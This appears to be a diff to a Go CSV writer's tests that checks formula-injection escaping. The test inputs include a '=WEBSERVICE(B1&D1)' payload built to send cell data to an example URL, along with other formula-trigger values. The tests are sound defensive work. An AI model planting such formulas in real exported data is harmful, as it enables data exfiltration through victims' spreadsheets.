@@ -7,6 +7,7 @@ import (
 	"fmt"
 	"io"
 	"reflect"
+	"regexp"
 	"slices"
 	"strings"
 	"testing"
@@ -137,7 +138,14 @@ func TestWriteRow(t *testing.T) {
 		{[]string{"a", "b c", ""}, "a,b c,\n"},
 		{[]string{""}, "\"\"\n"},
 		{[]string{"a,b", "a;b", "a\tb", `a"b`}, "\"a,b\",\"a;b\",\"a\tb\",\"a\"\"b\"\n"},
-		{[]string{strict.Text("=1+1"), strict.Text("ok"), strict.Text("")}, "'=1+1,ok,\n"},
+		{[]string{"=1+1", "ok", "", "'=1"}, "'=1+1,ok,,'=1\n"},
+		{[]string{"+1", "-1", "@a", "a=1", "m/44/60/0/0/0"}, "'+1,'-1,'@a,a=1,m/44/60/0/0/0\n"},
+		{[]string{"＝1", "＋1", "－1", "＠a", "﹦﹢﹣﹫"}, "'＝1,'＋1,'－1,'＠a,'﹦﹢﹣﹫\n"},
+		{[]string{"\tx", "\rx", "\t=x"}, "\"'\tx\",\"'\rx\",\"'\t'=x\"\n"},
+		// Where a semicolon parts cells, these quotes are text, and B1 has the rest.
+		{[]string{"w", ";http://example.org/;=WEBSERVICE(B1&D1);x"}, "w,\";http://example.org/;'=WEBSERVICE(B1&D1);x\"\n"},
+		{[]string{"w", `a;"=B1;x`}, `w,"a;""'=B1;x"` + "\n"},
+		{[]string{"a; =1", "a\t@b", "a;b=c", "a b;-"}, "\"a; '=1\",\"a\t'@b\",\"a;b=c\",\"a b;'-\"\n"},
 	} {
 		var b bytes.Buffer
 		w := bufio.NewWriter(&b)
@@ -145,15 +153,15 @@ func TestWriteRow(t *testing.T) {
 			t.Errorf("%q: %q, %v", c.cells, b.String(), err)
 		}
 	}
-	for _, s := range []string{"=", "+1", "-1", "@a", "\tx", "\rx"} {
-		if strict.Text(s) != "'"+s {
-			t.Errorf("%q is left as a formula", s)
-		}
+	if got := string(strict.AppendCell(nil, "-----BEGIN")); got != "-----BEGIN" {
+		t.Errorf("a cell of our own became %q", got)
 	}
 }
 
 func TestRoundTrip(t *testing.T) {
-	cell := rapid.StringMatching(`([!-~é]([ -~é]{0,10}[!-~é])?)?`)
+	cell := rapid.StringMatching(`([!-~é]([ -~é]{0,10}[!-~é])?)?`).Filter(func(s string) bool {
+		return !regexp.MustCompile(`(^|;)[ "]*[=+@-]`).MatchString(s) // no formula
+	})
 	rapid.Check(t, func(t *rapid.T) {
 		rows := rapid.SliceOfN(rapid.SliceOfN(cell, 1, 6), 1, 5).Draw(t, "rows")
 		var b bytes.Buffer
